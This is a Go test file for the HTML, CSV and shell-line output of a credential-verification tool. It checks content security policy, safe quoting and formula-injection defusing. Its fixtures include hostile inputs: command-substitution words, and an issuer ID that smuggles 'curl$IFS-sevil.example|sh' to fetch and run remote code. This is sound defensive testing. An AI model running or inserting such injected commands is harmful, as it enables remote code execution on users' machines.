package report_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/kompetansebevis/bevis/internal/app"
	"github.com/kompetansebevis/bevis/internal/i18n"
	"github.com/kompetansebevis/bevis/internal/report"
	"github.com/kompetansebevis/bevis/reason"
)

func result(n int) app.VerifyResult {
	return app.VerifyResult{Input: fmt.Sprintf("%d.json", n), Verdict: "valid", Kind: "credential", JudgedAt: time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC),
		Issuer: &app.ResultIssuer{ID: "did:web:kurs.example", VerifiedName: "Kursstedet AS", ClaimedName: "Kursstedet", TrustedBy: "trust.txt:3"},
		Claims: &app.ResultClaims{Achievement: "Sveising", Subject: []string{"did:key:z6Mk"}},
		Checks: []app.ResultCheck{{ID: "issuer-binding", Outcome: "pass"}, {ID: "status", Outcome: "pass"}}, Repeat: "bevis verify x"}
}

func page(t *testing.T, lang string, n int) string {
	t.Helper()
	var b bytes.Buffer
	p := report.NewPage(&b, i18n.New(lang))
	sum := app.VerifySummary{Total: n, Verdicts: map[string]int{"valid": n}, Complete: true}
	for i := range n {
		if err := p.Add(result(i)); err != nil {
			t.Fatal(err)
		}
	}
	if err := p.End(sum); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestPageStandsAlone: the policy of the page forbids everything but its own
// style, whose digest it names; nothing in it would be fetched or run.
func TestPageStandsAlone(t *testing.T) {
	t.Parallel()
	for _, lang := range i18n.Languages() {
		for _, n := range []int{0, 1, 3, 30} {
			text := page(t, lang, n)
			style := regexp.MustCompile(`(?s)<style>(.*?)</style>`).FindStringSubmatch(text)
			if style == nil {
				t.Fatal("no style")
			}
			sum := sha256.Sum256([]byte(style[1]))
			policy := "default-src &#39;none&#39;; style-src &#39;sha256-" + strings.ReplaceAll(base64.StdEncoding.EncodeToString(sum[:]), "+", "&#43;") + "&#39;"
			if !strings.Contains(text, policy) {
				t.Errorf("%s %d: the policy does not name the style", lang, n)
			}
			if strings.Contains(style[1], "url(") || strings.Contains(style[1], "@import") {
				t.Error("the style fetches something")
			}
			root, err := html.Parse(strings.NewReader(text))
			if err != nil {
				t.Fatal(err)
			}
			headings := 0
			for node := range root.Descendants() {
				if node.Type != html.ElementNode {
					continue
				}
				switch node.Data {
				case "script", "img", "link", "iframe", "object", "embed", "a", "form", "base", "svg", "video":
					t.Errorf("the page has <%s>", node.Data)
				case "h1":
					headings++
				case "html":
					if node.Attr[0].Key != "lang" || node.Attr[0].Val != lang {
						t.Errorf("the language is %v", node.Attr)
					}
				}
				for _, a := range node.Attr {
					if a.Key == "style" || a.Key == "src" || a.Key == "href" || strings.HasPrefix(a.Key, "on") {
						t.Errorf("<%s %s>", node.Data, a.Key)
					}
				}
			}
			if headings != 1 {
				t.Errorf("%d first headings", headings)
			}
			if strings.Contains(text, "page.") || strings.Contains(text, "label.") || strings.Contains(text, "%!") {
				t.Errorf("%s %d: a text is missing:\n%s", lang, n, text)
			}
			if got := strings.Contains(text, `class="many"`); got != (n > 20) {
				t.Errorf("%d results are a table: %t", n, got)
			}
		}
	}
}

// TestPageOrder: the verdict, who says so, whom it is about, what it says, the
// checks, what to do, and how to repeat it.
func TestPageOrder(t *testing.T) {
	t.Parallel()
	text, at := page(t, "en", 1), -1
	for _, part := range []string{"VALID", "all checked, and they hold", "Who says so", "Kursstedet AS", "calls itself", "trust.txt:3", "Whom it is about", "did:key:z6Mk", "What it says", "Sveising",
		"What was checked", "What to do next", "To repeat it", "bevis verify x"} {
		next := strings.Index(text[max(at, strings.Index(text, "<main>")):], part)
		if next < 0 {
			t.Fatalf("%q is not there, or too early", part)
		}
		at = max(at, strings.Index(text, "<main>")) + next
	}
}

type full struct{}

func (full) Write([]byte) (int, error) { return 0, errors.New("the disk is full") }

func TestWritersTell(t *testing.T) {
	t.Parallel()
	p := report.NewPage(full{}, i18n.New("en"))
	if err := errors.Join(p.Add(result(1)), p.End(app.VerifySummary{Total: 1})); reason.CodeOf(err) != reason.IO {
		t.Error(err)
	}
	c, err := report.NewCSV(full{})
	if err := errors.Join(err, c.Write(result(1)), c.Flush()); err == nil {
		t.Error("nothing was said")
	}
}

// TestRepeat: a shell takes the line for the words that went in, and nothing in
// it misleads the eye.
func TestRepeat(t *testing.T) {
	t.Parallel()
	sh, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash here")
	}
	words := []string{"plain", "", "two words", "it's", `back\slash`, "$(touch x)", "`id`", "a;b", "\x1b[2J", "\u202Eexe.txt", "line\nbreak", "æøå", "*?[a]", "~", "-x", "'\u200b'", "\xff", "!history", "#no", "{a,b}", "a=b", "tab\tbed"}
	line := report.Repeat(append([]string{"printf", `%s\0`}, words...))
	for _, c := range line {
		if report.Misleads(c) {
			t.Errorf("%U in the line", c)
		}
	}
	out, err := exec.CommandContext(t.Context(), sh, "-c", line).Output()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00"); strings.Join(got, "|") != strings.Join(words, "|") {
		t.Errorf("%q", got)
	}
	// A shell that does not know $'…' runs nothing of what stands in a word.
	marker := filepath.Join(t.TempDir(), "ran")
	if sh, err = exec.LookPath("sh"); err == nil {
		for _, word := range []string{"\x01'; touch " + marker + " #", `\'; touch ` + marker + " # \x02", "\x01$(touch " + marker + ")"} {
			if out, err := exec.CommandContext(t.Context(), sh, "-c", report.Repeat([]string{"true", word})).CombinedOutput(); err != nil {
				t.Errorf("%v: %s", err, out)
			}
		}
	}
	if _, err := os.Stat(marker); err == nil {
		t.Error("a word was run")
	}
	if got := report.Repeat([]string{"=ls", "\x01!x"}); got != `'=ls' $'\001\041x'` {
		t.Error(got)
	}
	for in, want := range map[string]string{
		"https://kurs.example/b.json":                            "https://kurs.example/b.json",
		"https://kari:hemmeleg@kurs.example/b.json?token=t#frag": "https://kurs.example/b.json?…",
		"https://kurs.example/%zz?token=t":                       "https://…",
		"C:\\b.json?x":                                           "C:\\b.json?x",
	} {
		if got := report.WithoutSecrets(in); got != want {
			t.Errorf("%q, not %q", got, want)
		}
	}
}

// TestNextIsOneWord: an issuer's id is chosen by whoever made the file, and is
// no command.
func TestNextIsOneWord(t *testing.T) {
	t.Parallel()
	r := app.VerifyResult{Verdict: "untrusted", Reason: "untrusted_issuer", Issuer: &app.ResultIssuer{ID: "did:web:x.example;curl$IFS-sevil.example|sh"}}
	if got := report.Next(i18n.New("en"), r); !strings.Contains(got, "bevis trust add 'did:web:x.example;curl$IFS-sevil.example|sh' --name") {
		t.Error(got)
	}
	r.Issuer.ID = "did:web:uib.no"
	if got := report.Next(i18n.New("en"), r); !strings.Contains(got, "bevis trust add did:web:uib.no --name") {
		t.Error(got)
	}
}

func TestCells(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"Sveising": "Sveising", "=1+1": "'=1+1", "+47": "'+47", "-1": "'-1", "@x": "'@x", "\t=1": "'\uFFFD=1", "\r=1": "'\uFFFD=1", "a;=1": "a;'=1", "a; =1": "a; '=1",
		`a;"=1+1;b`: `"a;""'=1+1;b"`, `a; " "=1`: `"a; "" ""'=1"`, `a;"@x`: `"a;""'@x"`,
		"＝1": "'＝1", "a=1": "a=1", `a"b`: `"a""b"`, "a,b": `"a,b"`, "æ\u202E": "æ\uFFFD", "": "",
	} {
		var b bytes.Buffer
		c, err := report.NewCSV(&b)
		if err != nil {
			t.Fatal(err)
		}
		r := app.VerifyResult{Input: "x", Claims: &app.ResultClaims{Achievement: in}}
		if err := errors.Join(c.Write(r), c.Flush()); err != nil {
			t.Fatal(err)
		}
		if _, row, _ := strings.Cut(b.String(), "\r\n"); !strings.Contains(row, ","+want+",") {
			t.Errorf("%q is written as %q", in, row)
		}
	}
}

func TestEscapeJSON(t *testing.T) {
	t.Parallel()
	if got := string(report.EscapeJSON([]byte("{\"a\":\"æ\u202E\U000E0041\u0085\"}\n"))); got != "{\"a\":\"æ\\u202e\\udb40\\udc41\\u0085\"}\n" {
		t.Error(got)
	}
}
